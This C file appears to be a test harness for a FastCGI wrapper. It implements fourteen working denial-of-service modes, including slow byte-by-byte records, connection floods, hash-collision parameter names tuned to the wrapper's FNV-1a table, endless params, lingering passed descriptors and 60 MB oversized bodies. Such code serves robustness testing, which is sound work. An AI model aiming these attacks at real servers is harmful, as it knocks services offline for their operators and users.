/*
 * attack ADDR KIND N PROGRAM: what somebody does who means harm.
 *
 *	slow	N connections, on each a record that comes byte by byte
 *	flood	N connections, one after the other, each closed at once
 *	garbage	likewise, with bytes that are no FastCGI, or hardly
 *	params	N requests on a connection whose variables never end
 *	names	a request of N variables whose names share a place of a table
 *	repeats	N requests with one variable of the wrapper's own, 80,000 times
 *	descriptors	a descriptor whose closing lasts, on N connections
 *	alike	63 requests on each of N connections, with ids that shared a
 *		place of a table of all connections, and records of such an id
 *	pages	N requests whose SCRIPT_NAME is PROGRAM, no reply is read
 *	ids	N requests on a connection, all begun before any is complete
 *	aborts	likewise, and aborted; of the last one's reply nothing is read
 *	runs	N requests of PROGRAM on connections of their own
 *	unread	the same, and nothing of the replies is read
 *	pours	the same, with bodies of 60 MB, far past CONTENT_LENGTH
 *
 * Says `under way` when all of it is there; ids then completes its requests
 * and says how many were answered, the others go on until stdin ends.
 */
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <unistd.h>

#include "addr.h"
#include "pair.h"
#include "record.h"

enum {
	CHUNK = 60000,
	CHUNKS_MAX = 1000, /* of a body: disks are not endless */
	PARAMS_MAX = 900000,
	PLACES = 1 << 18, /* of the wrapper's table for so many names */
	PARTS_MAX = 400,
	PATIENCE_MS = 60000,
	ALIKE = 100000,
	CONN_SIZE = 288, /* of the wrapper's, where glibc has 64 bits */
	REPEATS = 80000, /* with lengths and name they are less than 1 MiB */
};

static struct endpoint target;
static const char *program;

static void stop(const char *what)
{
	fprintf(stderr, "attack: %s: %s\n", what, strerror(errno));
	exit(1);
}

static int dial(void)
{
	int fd = socket(target.name.ss_family, SOCK_STREAM, 0);

	if (fd < 0 ||
	    connect(fd, (struct sockaddr *)&target.name, target.length) < 0)
		stop("connect");
	return fd;
}

/* Returns whether the other side still takes anything. */
static bool put(int fd, const void *bytes, size_t n)
{
	const char *from = bytes;

	while (n > 0) {
		ssize_t sent = send(fd, from, n, MSG_NOSIGNAL);

		if (sent < 0)
			return false;
		from += sent;
		n -= (size_t)sent;
	}
	return true;
}

static bool put_record(int fd, uint8_t type, uint16_t id, const void *content,
		       size_t n)
{
	unsigned char header[FCGI_HEADER_LEN];

	record_header(header, type, id, (uint16_t)n, 0);
	return put(fd, header, sizeof(header)) && put(fd, content, n);
}

static bool put_begin(int fd, uint16_t id)
{
	unsigned char record[16];

	record_begin_request(record, id, FCGI_RESPONDER, FCGI_KEEP_CONN);
	return put(fd, record, sizeof(record));
}

static bool put_pair(int fd, uint16_t id, const char *name, const char *value,
		     size_t length)
{
	static unsigned char content[CHUNK + 200];
	size_t n =
		pair_lengths(content, (uint32_t)strlen(name), (uint32_t)length);

	memcpy(content + n, name, strlen(name));
	n += strlen(name);
	memcpy(content + n, value, length);
	return put_record(fd, FCGI_PARAMS, id, content, n + length);
}

static bool put_request(int fd, uint16_t id, const char *length)
{
	const char *query = "1:1000000000000:p";

	return put_begin(fd, id) &&
	       put_pair(fd, id, "SCRIPT_FILENAME", program, strlen(program)) &&
	       put_pair(fd, id, "QUERY_STRING", query, strlen(query)) &&
	       put_pair(fd, id, "CONTENT_LENGTH", length, strlen(length)) &&
	       put_record(fd, FCGI_PARAMS, id, "", 0);
}

static void under_way(void)
{
	printf("under way\n");
	fflush(stdout);
}

/* Whether to go on; waits so long for the end of stdin. */
static bool goes_on(int ms)
{
	struct pollfd one = {.fd = STDIN_FILENO, .events = POLLIN};

	return poll(&one, 1, ms) == 0;
}

static int *dial_all(int n)
{
	int *fds = calloc((size_t)n, sizeof(*fds));
	int i;

	for (i = 0; fds && i < n; i++)
		fds[i] = dial();
	if (!fds)
		stop("memory");
	return fds;
}

static void slow(int n)
{
	int *fds = dial_all(n);
	int i;

	for (i = 0; i < n; i++)
		if (!put_begin(fds[i], 1) || !put(fds[i], "\1\4\0\1\377", 5))
			stop("send");
	under_way();
	for (i = 0; goes_on(1); i = (i + 1) % n)
		put(fds[i], "\0", 1);
	free(fds);
}

static void flood(int n)
{
	under_way();
	while (n-- > 0 || goes_on(0))
		close(dial());
}

static void garbage(int n)
{
	static unsigned char bytes[3000];
	uint64_t seed = 1;
	size_t i;

	under_way();
	while (n-- > 0 || goes_on(1)) {
		int fd = dial();

		for (i = 0; i < sizeof(bytes); i++) {
			seed = seed * 6364136223846793005u + 1;
			bytes[i] = (unsigned char)(seed >> 40);
		}
		/* Half of it begins as a record does. */
		bytes[0] = (unsigned char)(n & 1 ? FCGI_VERSION_1 : bytes[0]);
		bytes[1] %= FCGI_UNKNOWN_TYPE + 2;
		put(fd, bytes, 1 + (size_t)(seed % sizeof(bytes)));
		close(fd);
	}
}

static void params(int n)
{
	static char value[CHUNK];
	int fd = dial();
	int sent;
	int i;

	memset(value, 'x', sizeof(value));
	for (i = 1; i <= n; i++) {
		put_begin(fd, (uint16_t)i);
		for (sent = 0; sent < PARAMS_MAX; sent += CHUNK)
			put_pair(fd, (uint16_t)i, "A", value, CHUNK);
	}
	under_way();
	while (goes_on(1000))
		;
}

/* One step of FNV-1a, which is what the wrapper's table is made with. */
static uint32_t hash(uint32_t from, const unsigned char part[3])
{
	int i;

	for (i = 0; i < 3; i++)
		from = (from ^ part[i]) * 16777619u;
	return from % PLACES;
}

/* Finds parts of names that all lead from one place to another, the same for
 * all; returns how many, and moves *place there. */
static int find_parts(unsigned char parts[PARTS_MAX][3], uint32_t *place)
{
	static int count[PLACES];
	uint32_t best = 0;
	int found = 0;
	int pass;
	int i;

	memset(count, 0, sizeof(count));
	for (pass = 0; pass < 2; pass++)
		for (i = 0; i < 1 << 21 && found < PARTS_MAX; i++) {
			unsigned char part[3];
			uint32_t at;

			part[0] = (unsigned char)(0x80 | (i & 0x7f));
			part[1] = (unsigned char)(0x80 | (i >> 7 & 0x7f));
			part[2] = (unsigned char)(0x80 | i >> 14);
			at = hash(*place, part);
			if (pass == 0 && ++count[at] > count[best])
				best = at;
			else if (pass == 1 && at == best)
				memcpy(parts[found++], part, sizeof(part));
		}
	*place = best;
	return found;
}

static void names(int n)
{
	static unsigned char parts[4][PARTS_MAX][3];
	uint32_t place = 2166136261u % PLACES;
	char name[13] = "";
	int found[4];
	int fd = dial();
	int i;

	for (i = 0; i < 4; i++)
		found[i] = find_parts(parts[i], &place);
	put_begin(fd, 1);
	for (i = 0; i < n; i++) {
		int rest = i;
		int part;

		for (part = 0; part < 4; part++) {
			memcpy(name + 3 * part, parts[part][rest % found[part]],
			       3);
			rest /= found[part];
		}
		put_pair(fd, 1, name, "", 0);
	}
	put_pair(fd, 1, "SCRIPT_FILENAME", program, strlen(program));
	put_record(fd, FCGI_PARAMS, 1, "", 0);
	put_record(fd, FCGI_STDIN, 1, "", 0);
	under_way();
	while (goes_on(1000))
		;
}

static void put_repeats(int fd, uint16_t id)
{
	static const char name[] = "FCGI_ROLE";
	const size_t length = sizeof(name) - 1;
	static unsigned char block[CHUNK];
	size_t used = 0;
	int i;

	put_begin(fd, id);
	for (i = 0; i < REPEATS; i++) {
		used += pair_lengths(block + used, (uint32_t)length, 0);
		memcpy(block + used, name, length);
		used += length;
		if (used < CHUNK - 64 && i < REPEATS - 1)
			continue;
		put_record(fd, FCGI_PARAMS, id, block, used);
		used = 0;
	}
	put_pair(fd, id, "SCRIPT_FILENAME", program, strlen(program));
	put_record(fd, FCGI_PARAMS, id, "", 0);
	put_record(fd, FCGI_STDIN, id, "", 0);
}

static void repeats(int n)
{
	int fd = dial();
	int i;

	for (i = 1; i <= n; i++)
		put_repeats(fd, (uint16_t)i);
	under_way();
	while (goes_on(1000))
		;
}

/* A socket that waits for somebody who reads nothing before it is closed. */
static int lingering(void)
{
	static const char block[CHUNK];
	const struct linger linger = {1, PATIENCE_MS / 1000};
	struct sockaddr_in name = {.sin_family = AF_INET};
	socklen_t size = sizeof(name);
	int server = socket(AF_INET, SOCK_STREAM, 0);
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	name.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if (bind(server, (struct sockaddr *)&name, size) < 0 ||
	    listen(server, 1) < 0 ||
	    getsockname(server, (struct sockaddr *)&name, &size) < 0 ||
	    connect(fd, (struct sockaddr *)&name, size) < 0)
		stop("a connection of its own");
	while (send(fd, block, sizeof(block), MSG_DONTWAIT) > 0)
		;
	setsockopt(fd, SOL_SOCKET, SO_LINGER, &linger, sizeof(linger));
	return fd;
}

static void give(int to, int fd)
{
	union {
		struct cmsghdr header;
		char bytes[CMSG_SPACE(sizeof(int))];
	} control = {.header = {.cmsg_level = SOL_SOCKET,
				.cmsg_type = SCM_RIGHTS,
				.cmsg_len = CMSG_LEN(sizeof(int))}};
	char version = FCGI_VERSION_1;
	struct iovec part = {&version, 1};
	struct msghdr message = {.msg_iov = &part,
				 .msg_iovlen = 1,
				 .msg_control = &control,
				 .msg_controllen = sizeof(control)};

	memcpy(CMSG_DATA(&control.header), &fd, sizeof(fd));
	/* Whoever closes it last waits. */
	if (sendmsg(to, &message, MSG_NOSIGNAL) == 1)
		close(fd);
}

static void descriptors(int n)
{
	int i;

	for (i = 0; i < n; i++)
		give(dial(), lingering());
	under_way();
	while (goes_on(1000))
		;
}

static uint16_t alike_id(int conn, int i)
{
	return (uint16_t)((ALIKE - conn * CONN_SIZE / 256) % 1024 & 1023) |
	       (uint16_t)(i << 10);
}

static void alike(int n)
{
	int *fds = dial_all(n);
	int i, id;

	for (i = 0; i < n; i++)
		for (id = 1; id < 64; id++)
			put_begin(fds[i], alike_id(i, id));
	for (i = 0; i < ALIKE; i++)
		put_record(fds[n / 2], FCGI_STDIN, alike_id(n / 2, 0), "", 0);
	under_way();
	while (goes_on(1000))
		;
	free(fds);
}

/* Reads until n requests have ended. */
static int count_ends(int fd, int n)
{
	static unsigned char buffer[65536];
	struct record_reader reader = {.have = 0};
	struct pollfd one = {.fd = fd, .events = POLLIN};
	int ends = 0;

	while (ends < n && poll(&one, 1, PATIENCE_MS) > 0) {
		const unsigned char *at = buffer;
		ssize_t got = read(fd, buffer, sizeof(buffer));
		struct record record;

		if (got <= 0)
			break;
		while (record_next(&reader, &at, buffer + got, &record) ==
		       RECORD_PIECE)
			ends += record.type == FCGI_END_REQUEST;
	}
	return ends;
}

static void ids(int n)
{
	int fd = dial();
	int i;

	for (i = 1; i <= n; i++)
		put_begin(fd, (uint16_t)i);
	under_way();
	if (fork() == 0) {
		for (i = n; i >= 1; i--) {
			put_record(fd, FCGI_PARAMS, (uint16_t)i, "", 0);
			put_record(fd, FCGI_STDIN, (uint16_t)i, "", 0);
		}
		_exit(0);
	}
	printf("%d answered\n", count_ends(fd, n));
}

static void pages(int n)
{
	int fd = dial();
	int i;

	for (i = 1; i <= n; i++)
		put_begin(fd, (uint16_t)i);
	for (i = 1; i <= n; i++) {
		put_pair(fd, (uint16_t)i, "SCRIPT_NAME", program,
			 strlen(program));
		put_record(fd, FCGI_PARAMS, (uint16_t)i, "", 0);
	}
	under_way();
	while (goes_on(1000))
		;
}

static void aborts(int n)
{
	int fd = dial();
	int i;

	for (i = 1; i < n; i++)
		put_begin(fd, (uint16_t)i);
	put_request(fd, (uint16_t)n, "0");
	put_record(fd, FCGI_STDIN, (uint16_t)n, "", 0);
	/* Until the wrapper can send no more. */
	goes_on(500);
	for (i = 1; i < n; i++)
		put_record(fd, FCGI_ABORT_REQUEST, (uint16_t)i, "", 0);
	under_way();
	while (goes_on(1000))
		;
}

static void run_all(int n, bool reads, bool pours)
{
	static char block[CHUNK];
	int *fds = dial_all(n);
	long chunks = pours ? (long)n * CHUNKS_MAX : 0;
	int i;

	for (i = 0; i < n; i++) {
		put_request(fds[i], 1, pours ? "10" : "0");
		if (!pours)
			put_record(fds[i], FCGI_STDIN, 1, "", 0);
		fcntl(fds[i], F_SETFL, O_NONBLOCK);
	}
	under_way();
	for (i = 0; goes_on(0); i = (i + 1) % n) {
		if (reads && read(fds[i], block, sizeof(block)) == 0)
			close(fds[i]), fds[i] = dial();
		if (chunks-- > 0)
			put_record(fds[i], FCGI_STDIN, 1, block, sizeof(block));
		if (!reads && i == n - 1)
			goes_on(10);
	}
	free(fds);
}

int main(int argc, char **argv)
{
	struct endpoint list[ADDR_ENDPOINTS_MAX];
	struct rlimit limit;
	struct addr addr;
	const char *why = NULL;
	int n;

	if (argc < 5 || addr_parse(&addr, argv[1]) ||
	    addr_resolve(&addr, list, &why) < 1)
		stop("ADDR KIND N PROGRAM");
	getrlimit(RLIMIT_NOFILE, &limit);
	limit.rlim_cur = limit.rlim_max;
	setrlimit(RLIMIT_NOFILE, &limit);
	target = list[0];
	n = (int)strtol(argv[3], NULL, 10);
	program = argv[4];
	if (strcmp(argv[2], "slow") == 0)
		slow(n);
	else if (strcmp(argv[2], "flood") == 0)
		flood(n);
	else if (strcmp(argv[2], "garbage") == 0)
		garbage(n);
	else if (strcmp(argv[2], "params") == 0)
		params(n);
	else if (strcmp(argv[2], "names") == 0)
		names(n);
	else if (strcmp(argv[2], "repeats") == 0)
		repeats(n);
	else if (strcmp(argv[2], "descriptors") == 0)
		descriptors(n);
	else if (strcmp(argv[2], "alike") == 0)
		alike(n);
	else if (strcmp(argv[2], "pages") == 0)
		pages(n);
	else if (strcmp(argv[2], "ids") == 0)
		ids(n);
	else if (strcmp(argv[2], "aborts") == 0)
		aborts(n);
	else if (strcmp(argv[2], "runs") == 0)
		run_all(n, true, false);
	else if (strcmp(argv[2], "unread") == 0)
		run_all(n, false, false);
	else if (strcmp(argv[2], "pours") == 0)
		run_all(n, false, true);
	else
		stop("KIND");
	return 0;
}
